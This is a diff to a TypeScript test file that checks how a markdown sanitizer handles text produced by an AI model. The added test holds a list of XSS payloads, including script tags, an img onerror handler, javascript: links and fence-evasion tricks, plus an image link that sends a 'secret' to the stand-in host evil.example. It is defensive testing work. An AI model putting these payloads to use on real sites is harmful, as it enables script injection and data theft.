@@ -3,6 +3,8 @@ import { extractJson, validateAnswer } from '../../src/engines/answer.js';
 import { addUsage, emptyUsage, priceOf } from '../../src/engines/prices.js';
 import { enginePrompt } from '../../src/engines/prompt.js';
 import { adviceSection, embeddableMarkdown } from '../../src/engines/render.js';
+import { markdownValidator } from '../../src/validate/validators/markdown.js';
+import { marked } from 'marked';
 import { runAllPhases } from '../../src/pipeline/runPhases.js';
 import { specFromRequirements } from '../../src/spec/resolve.js';
 import { goodAnswer } from '../helpers/modelAnswers.js';
@@ -56,9 +58,36 @@ describe("a model's answer", () => {
 });
 
 describe('the review section in a phase document', () => {
-  it("keeps the model's markdown from adding HTML or headings above its own section", () => {
-    const md = embeddableMarkdown('# Title\n## Sub\n<script>alert(1)</script> text\n```html\n<div>code</div>\n```\n\u0007bell');
-    expect(md).toBe('### Title\n#### Sub\n&lt;script>alert(1)&lt;/script> text\n```html\n<div>code</div>\n```\nbell');
+  it("rebuilds the model's markdown from a safe subset: demoted headings, lists, paragraphs, code, bold", () => {
+    const md = embeddableMarkdown('# Title\n## Sub\nSome **bold** and `code`.\n\n- one\n- two\n\n```html\n<div>code</div>\n```\n\u0007bell');
+    expect(md).toBe('### Title\n\n#### Sub\n\nSome **bold** and `code`.\n\n- one\n- two\n\n```html\n<div>code</div>\n```\n\nbell');
+  });
+
+  it('lets no raw HTML, link, image, setext heading or open fence through, as the markdown validator and marked confirm', async () => {
+    const attacks = [
+      '<img src=x onerror=alert(1)>',
+      '``` a`b\n<img src=x onerror=alert(1)>',
+      '\t```\n<img src=x onerror=alert(1)>',
+      '\u00a0```\n<script>alert(1)</script>',
+      '![t](https://evil.example/p?d=secret)',
+      '[x](javascript:alert(1))',
+      'Summary\n===',
+      '```\nnever closed <script>',
+      '<!-- hidden --> <a href="https://evil.example">x</a>',
+    ];
+    for (const attack of attacks) {
+      const md = `## Model review\n\n${embeddableMarkdown(attack)}\n\n### After\n`;
+      const html = await marked.parse(md);
+      expect(html, attack).not.toMatch(/<(img|script|iframe|h1)\b|<!--|href="javascript:/);
+      // A bare URL is autolinked as visible text (GitHub does the same); no other link survives.
+      for (const [, href, label] of html.matchAll(/<a href="([^"]*)">([^<]*)<\/a>/g)) {
+        const entities: Record<string, string> = { '&quot;': '"', '&gt;': '>', '&lt;': '<', '&amp;': '&', '&#39;': "'" };
+        expect(label!.replace(/&(quot|gt|lt|amp|#39);/g, (e) => entities[e]!), attack).toBe(decodeURIComponent(href!));
+      }
+      expect(html, attack).toContain('<h3>After</h3>');
+      const [verdict] = await markdownValidator.validate({ artifacts: [{ path: 'd.md', kind: 'markdown', phase: 'data_engineer', content: md }], dir: '' } as never);
+      expect(verdict!.verdict, attack).toBe('pass');
+    }
   });
 
   it('lists each proposal with its id, the paths it changes and its patch; user-visible strings are escaped', () => {
